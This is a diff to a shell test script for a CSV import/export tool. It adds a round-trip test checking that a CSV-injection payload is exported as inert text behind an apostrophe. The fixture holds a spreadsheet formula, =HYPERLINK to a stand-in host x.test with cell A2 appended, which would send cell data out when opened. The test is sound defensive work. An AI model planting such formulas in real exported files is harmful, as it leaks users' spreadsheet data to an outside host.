@@ -63,6 +63,11 @@ check "an update changed the row" grep -q 'Renamed GmbH' <("$DFNC" "${D[@]}" exp
 # commas and a newline inside fields, an empty optional one
 "$DFNC" --db rt_src.db import organisations "$HERE/data/orgs.csv" >/dev/null
 "$DFNC" --db rt_src.db import people "$HERE/data/people.csv" >/dev/null
+# a name a spreadsheet would run as a formula (CSV injection) and a description
+# that begins with a minus
+printf '%s\n' 'id,name,country,kind,sme,city,website,description' \
+    'org-f,"=HYPERLINK(""http://x.test/?""&A2,""CV"")",DE,company,1,,,-40 % weight' > formula.csv
+"$DFNC" --db rt_src.db import organisations formula.csv >/dev/null
 for kind in organisations people; do
     "$DFNC" --db rt_src.db export $kind rt_$kind.csv 2>/dev/null
     expect "$kind exported import into a fresh database" 0 'rows: [0-9]+ added, 0 updated' -- \
@@ -70,6 +75,9 @@ for kind in organisations people; do
     check "... and export again byte for byte" cmp -s rt_$kind.csv <("$DFNC" --db rt.db export $kind -)
 done
 check "... the quoted comma and the newline among them" grep -q '"Опис українською,$' rt_organisations.csv
+check "... a formula exported as text, behind an apostrophe" grep -q "^org-f,\"'=HYPERLINK(\"\"http://x.test/?\"\"&A2,.*,'-40 % weight" rt_organisations.csv
+check "... and imported back without it" grep -q '"name": "=HYPERLINK(\\"http://x.test/?\\"&A2' \
+    <("$DFNC" --db rt.db export organisations - --format json)
 before=$(org_count t.db)
 
 bad() { # bad NAME KIND FILE PATTERN: refused with exit 3 and FILE:LINE, nothing written
